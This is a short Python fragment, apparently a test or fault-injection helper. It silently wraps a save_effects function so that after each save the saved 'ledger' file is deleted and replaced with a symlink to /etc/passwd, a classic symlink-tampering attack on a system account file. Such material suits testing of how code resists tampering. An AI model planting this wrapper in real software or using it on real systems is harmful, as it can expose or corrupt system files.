"""The ledger becomes a link to /etc/passwd."""
def spoil(path):
    path.unlink()
    path.symlink_to("/etc/passwd")

_save = save_effects
def save_effects(path, effects):
    _save(path, effects)
    spoil(Path(path))
